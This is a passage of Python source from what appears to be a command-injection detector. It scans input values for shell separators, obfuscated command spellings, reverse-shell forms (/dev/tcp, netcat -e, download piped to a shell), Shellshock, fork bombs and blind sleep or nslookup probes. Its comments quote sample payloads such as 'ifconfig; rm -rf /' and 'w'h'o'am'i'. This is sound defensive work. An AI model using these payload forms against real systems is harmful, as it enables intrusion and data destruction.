        if prose_like and _argument_signal(segment, name, args, strict=False) is None:
            return None
        return ("HG-CMDI-002", f"{what} inside {opener}...")
    if opener == "start":
        if index == 0 and 0 in segment.glued_words and quotes_paired and not quoted_context:
            # The value's first word is a command spelled in pieces (w'h'o'am'i, 'w'hoami, w\\ho\\am\\i):
            # no text writes a word so, and a shell runs it as the command itself. An unpaired
            # apostrophe ("i'd") is English, not quoting.
            return ("HG-CMDI-003", f"{what} spelled in pieces that only a shell joins")
        if brace_start and segment.obfuscated and index == 0 and not quoted_context:
            # "{,ifconfig}" expands to the command alone (an empty first element is no word): no text
            # opens with "{," and a word list.
            return ("HG-CMDI-003", f"{what} spelled by a brace expansion")
        if segment.obfuscated and ifs and not quoted_context:
            return ("HG-CMDI-003", f"{what} glued to $IFS expansions")
        if quoted_context or not command_first or (name not in vocab.ADMIN_SUBCOMMANDS and _reads_as_prose(args)):
            return None
        signal = _argument_signal(segment, name, args, strict=True)
        # "net /usr/lib/sendmail ...": net, reg, sc and wmic read a sub-command first, or are no command line
        admin_tool = name in vocab.ADMIN_SUBCOMMANDS
        misread_tool = admin_tool and not _admin_form(name, args)
        # An IP address alone does not make "ping 8.8.8.8 timed out" a command line, nor a lone "/" make
        # cmd.exe's "start" one ("Start / Stop subtitles", a player's button: its switches have letters).
        strong = not misread_tool and (
            any(
                _strong_argument(a) and not vocab.IPV4_ARGUMENT.match(a) and not (name == "start" and a == "/")
                for a in args
            )
            or segment.redirect
        )
        if glued and signal:
            return ("HG-CMDI-003", f"{what} hidden with quotes, escapes or $IFS")
        interpreter_flag = (name in _INTERPRETERS and any(a in ("-c", "-e", "-i") for a in args)) or (
            name == "cmd" and len(args) >= 2 and args[0].lower() in _CMD_RUN_FLAGS
        )
        admin = admin_tool and not misread_tool and signal is not None and len(args) >= 2
        recon_options = name in vocab.STANDALONE and name not in _AMBIGUOUS and args and signal is not None
        if strong or (binary_path and args) or interpreter_flag or admin or recon_options or _counted_ping(name, args):
            return ("HG-CMDI-006", f"value is a command line: {what} with {signal or 'arguments'}")
        if name in _RECON_ALONE and all(vocab.UNIX_OPTION.match(a) for a in args):
            return ("HG-CMDI-007", f"value is the reconnaissance {what}")
        return None
    separator = "newline" if opener == "\n" else repr(opener)
    if binary_path:
        return ("HG-CMDI-001", f"separator {separator} then program path {raw[:40]!r}")
    if _prose_after_separator(name, args):
        return None
    if opener in _WEAK_SEPARATORS and not leading:
        # "(", "&" and newlines are common in prose, JSON and GraphQL ("Tom & Jerry", "(id)",
        # "{\n  id\n}"): unless the value opens with them, demand command-line arguments.
        signal = _argument_signal(segment, name, args, strict=True)
        standalone_after_amp = opener == "&" and name in vocab.STANDALONE and name not in ("id", "dir", "ver")
        # After a one-token value, a line of a command alone or of a time delay ("127.0.0.1\nid",
        # "1\nsleep 5"): what no second line of text is. Not a shell's name alone (a package list's
        # "bash" line) nor a path's last part ("ftp.gnu.org:/pub/gnu/bash").
        appended_alone = appended and (
            (not args and raw.lower() == name and name in _APPENDED_ALONE)
            or _is_delay([name, *args])
            or (len(args) == 1 and name in _LOOKUPS and _HOST_NAME.fullmatch(args[0]) is not None)
        )
        # Reconnaissance words that are no English (whoami, ifconfig) need no arguments after any separator.
        if signal is None and not standalone_after_amp and not appended_alone and name not in _RECON_ALONE:
            return None
    elif name in vocab.STANDALONE:
        signal = "no argument needed"
    else:
        signal = _argument_signal(segment, name, args, strict=False)
        if signal is None:
            return None
    return ("HG-CMDI-001", f"separator {separator} then {what} ({signal or 'no argument needed'})")


def _delimited_data(segments: list[Segment], index: int) -> bool:
    """``name|id|value``: a bare word between pipes, next to other words that are no commands, is a
    column of pipe-delimited data rather than a pipeline."""
    segment = segments[index]
    if segment.opener not in ("|", "||") or len(segment.words) != 1 or not segment.words[0].isalnum():
        return False
    following = segments[index + 1] if index + 1 < len(segments) else None
    if following is None or following.opener != "|" or not following.words:
        return False
    word = following.words[0]
    return word.replace("_", "").replace("-", "").isalnum() and _command_name(word) not in vocab.KNOWN


def _reverse_shell(segments: list[Segment]) -> str | None:
    previous = ""
    for segment in segments:
        words = [w.lower() for w in segment.words]
        index = _command_index(segment.words)
        name = _command_name(words[index]) if index < len(words) else ""
        if any("/dev/tcp/" in w or "/dev/udp/" in w for w in words):
            return "/dev/tcp redirection (reverse shell)"
        if name in ("nc", "ncat", "netcat") and any(w in ("-e", "-c") or w.startswith("-e") for w in words):
            return "netcat -e runs a shell for a remote peer"
        if name in _INTERPRETERS and "-i" in words and segment.redirect:
            return "interactive shell with redirected input/output"
        if segment.opener == "|" and name in _INTERPRETERS and previous in _FETCHERS:
            return f"download piped into {name}"
        previous = name
    return None


def _command_in_variable(segment: Segment, assigned: dict[str, str], line: str) -> str | None:
    """Why the segment runs a command an earlier assignment put in a variable (``c=whoami;$c``), or
    spelled across variables (``a=who;b=ami;$a$b``)."""
    words = segment.words
    index = _command_index(words)
    if index >= len(words) or not words[index].startswith("$"):
        return None
    value = assigned.get(words[index][1:].strip("{}"), "").split()
    if index == 0:
        chain = _VARIABLE_CHAIN.match(line, segment.start + (len(segment.opener) if segment.opener != "start" else 0))
        if chain is not None:
            names = _VARIABLE_NAME.findall(chain.group(0))
            value = "".join(assigned.get(name.lower(), "") for name in names).split()
    if not value:
        return None
    if _command_name(value[0]) in vocab.KNOWN or _is_binary_path(value[0]):
        return f"command {' '.join(value)[:40]!r} run from the variable {words[index][:20]}"
    return None


# Two to four variables glued into one word, after blanks: "$a$b", "${a}${b}"
_VARIABLE_CHAIN = re.compile(r"[ \t]{0,8}(?:\$\{?[A-Za-z_]\w{0,31}\}?){2,4}")
_VARIABLE_NAME = re.compile(r"\$\{?([A-Za-z_]\w{0,31})")


def _note_assignments(segment: Segment, assigned: dict[str, str]) -> None:
    for word in segment.words[: _command_index(segment.words) + 1]:
        match = _ASSIGNMENT.match(word)
        if match is not None and len(assigned) < 16:
            # lower-cased as the tokenizer spells a variable it expands ("$X" -> "$x")
            assigned[match.group(0)[:-1].lower()] = word[match.end() :]


# A parameter value of one token: an address, a number, a name, a file or host name.
_ONE_TOKEN = re.compile(r"[\w.:@/+-]{1,64}")
# The commands that make an appended line alone: no shell's or interpreter's name, no everyday word but "id".
_SHELLS_AND_INTERPRETERS = _INTERPRETERS | {"cmd", "powershell", "pwsh", "csh", "tcsh"}
_APPENDED_ALONE = vocab.STANDALONE - _SHELLS_AND_INTERPRETERS - (_AMBIGUOUS - {"id"})
# Out-of-band probes on an appended line: a lookup of the attacker's host ("1\nnslookup x.example").
_LOOKUPS = frozenset({"ping", "nslookup", "dig"})
_HOST_NAME = re.compile(r"[a-z0-9-]{1,63}(?:\.[a-z0-9-]{1,63}){1,8}", re.IGNORECASE)


def _appended_line(line: str, at: int) -> bool:
    """``127.0.0.1\\nsleep 5``: one token, then the line break at ``at`` and one more line. That is a
    one-line parameter with a command appended on a line of its own, as an injection writes it where a
    filter stops ``;``, ``|`` and ``&`` (``%0a``); text with lines has more of them, or words on the line
    before (a letter, a list). A command name on the first line makes two lines a list of programs
    (``gzip\\nhostname``)."""
    if at > 80 or "\n" in line[at + 1 :].rstrip():  # a line break may close the line ("1%0asleep 5%0a")
        return False
    head = line[:at].strip(" \t\r'\"")
    return _ONE_TOKEN.fullmatch(head) is not None and head.lower() not in vocab.KNOWN


def _blanks(match: re.Match[str]) -> str:
    """Blanks as long as the match: the text keeps its positions for the evidence."""
    return " " * len(match.group(0))


def _is_delay(words: list[str]) -> bool:
    """``sleep 5``: a time delay and nothing else."""
    return len(words) == 2 and words[0] == "sleep" and words[1].isdigit()


def _scan_context(text: str, quote: str, command_first: bool, paranoia: int) -> Detection | None:
    segments = split_commands(quote + text if quote else text, quote)
    shift = len(quote)
    reverse = _reverse_shell(segments)
    if reverse is not None:
        return Detection("HG-CMDI-005", reverse, 0, min(len(text), 64))
    line = quote + text
    # Blanks, quotes and line breaks before the first separator: "\r\nid" opens with its separator too.
    first_content = len(line) - len(line.lstrip(" \t'\"\r\n"))
    ifs = _IFS.search(text) is not None
    quotes_paired = not text.count("'") % 2 and not text.count('"') % 2
    brace_start = line.lstrip(" \t'\"").startswith("{,")
    assigned: dict[str, str] = {}  # variables set by NAME=value words so far
    line_broken = False  # a segment after a line break was seen
    for index, segment in enumerate(segments):
        if index and assigned:
            hidden = _command_in_variable(segment, assigned, line)
            if hidden is not None:
                start = max(segment.start - shift, 0)
                return Detection("HG-CMDI-003", hidden, start, min(start + 64, len(text)))
        if segment.words and "=" in segment.words[0]:
            _note_assignments(segment, assigned)
        # A separator at the very start of the value (only quotes/blanks before it) is no prose.
        leading = segment.start <= first_content
        # (only the first line break can start the last line after one token: the test runs once a value)
        appended = segment.opener == "\n" and not leading and not line_broken and _appended_line(line, segment.start)
        # "1&sleep 5&": a time delay run in the background after a one-token value, as a blind probe
        # writes it; only the delay, since "page=1&id" is a query string held as one value.
        appended = appended or (
            segment.opener == "&" and not leading and _is_delay(segment.words) and _appended_line(line, segment.start)
        )
        line_broken = line_broken or (segment.opener == "\n" and bool(segment.words))  # ("\r\n": two breaks)
        if segment.opener == ")" and line[segment.start + 1 : segment.start + 2] in _BLANKS_AFTER_CLOSE:
            # Words after a closed substitution and a blank are its command's arguments ("`cmd` which
            # is ...", Markdown code and prose); after a subshell, a syntax error. Glued on, a word goes
            # on with the word (`true`id runs id) and is judged.
            continue
        verdict = _judge(segment, bool(quote), leading, command_first, ifs, quotes_paired, brace_start, appended)
        if verdict is not None and (_RULES_BY_ID[verdict[0]].paranoia > paranoia or _delimited_data(segments, index)):
            continue  # ("ifconfig; rm -rf /": the bare first command is a stricter level's; the next one counts)
        if verdict is not None:
            start = max(segment.start - shift, 0)
            return Detection(verdict[0], verdict[1], start, min(start + 64, len(text)))
    return None


def scan(text: str, ctx: ScanContext) -> Detection | None:
    """The engine entry point: :func:`detect`, guarded so that a detector bug never escapes."""
    try:
        return detect(text, ctx)
    except Exception:  # the contract: a detector never raises (tests fuzz detect() unguarded)
        return None


def detect(text: str, ctx: ScanContext) -> Detection | None:
    """First detection in ``text`` (unguarded; see :func:`scan`)."""
    if not text or not _prefilter_matches(text):
        return None
    if "^" in text:
        text = _CMD_CARET.sub("", text)
    if "&" in text and ";" in text:
        text = _HTML_ENTITY.sub(_blanks, text)
    match = _SHELLSHOCK.search(text)
    if match is not None:
        return Detection("HG-CMDI-004", "bash function definition '() {' (Shellshock)", *match.span())
    match = _SSI_EXEC.search(text)
    if match is not None:
        return Detection("HG-CMDI-008", "<!--#exec server-side include", *match.span())
    match = _fork_bomb(text) if "{" in text and "(" in text else None
    if match is not None:
        why = f"function {match.group(1)[:40]!r} runs itself twice (fork bomb)"
        return Detection("HG-CMDI-011", why, *match.span())
    match = _ARGUMENT_INJECTION.search(text)
    if match is not None:
        return Detection("HG-CMDI-010", f"command-running option {match.group(0).strip()[:40]!r}", *match.span())
    if "%" in text and (match := _CMD_SUBSTRING.search(text)) is not None:
        return Detection("HG-CMDI-003", f"cmd.exe substring expansion {match.group(0)[:40]!r}", *match.span())
    opening = text[:12].lstrip(_BLANKS_AND_QUOTES)[:3].lower()  # the two regexes below only when it can be
    match = _BATCH_FOR.match(text) if opening == "for" else _BATCH_IF.get().match(text) if opening[:2] == "if" else None
    if match is not None:
        keyword = match.group(0).split()[0].strip("'\"").upper()
        return Detection("HG-CMDI-006", f"value is a cmd.exe {keyword} statement", *match.span())
    if _names_no_command(text):  # also rules out the call below: it needs a command in its argument
        return None
    lowered = text.lower()
    match = _INTERPOLATED_COMMAND.search(text) if "%x" in lowered else None
    if match is not None:
        return Detection("HG-CMDI-009", "Ruby %x(...) runs an interpolated command", *match.span())
    match = _POWERSHELL_NETWORK.search(text) if "webclient" in lowered or "tcpclient" in lowered else None
    if match is not None:
        return Detection("HG-CMDI-005", f"PowerShell {match.group(0)[:40]!r}", *match.span())
    for call in (_EXEC_CALL, _BARE_EXEC_CALL) if any(word in lowered for word in _CALL_WORDS) else ():
        match = call.search(text)
        while match is not None:
            first = _first_command(match.group(2) if call is _EXEC_CALL else next(filter(None, match.groups())))
            if first:
                why = f"shell command {first[:40]!r} passed to a command-execution function"
                return Detection("HG-CMDI-009", why, *match.span())
            match = call.search(text, match.end())
    views = [text]
    if "\\n" in text or "\\r" in text:
        # Payloads often arrive with the newline still escaped ("\nid\n"); the engine's JS
        # decoding does this too, but a value may reach a shell through a layer that decodes it.
        views.append(text.replace("\\n", "\n").replace("\\r", "\n"))
    for view in views:
        for quote in ("", "'", '"'):
            # Inside a quoted argument only what follows the closing quote can run, and it needs an
            # operator to start a command: skip the context when none follows the first quote.
            if quote and _OPERATOR_CHAR.search(view, view.find(quote) + 1 if quote in view else len(view)) is None:
                continue
            found = _scan_context(view, quote, _LEADING_COMMAND.match(view) is not None, ctx.paranoia)
            if found is not None:
                return found
    return None
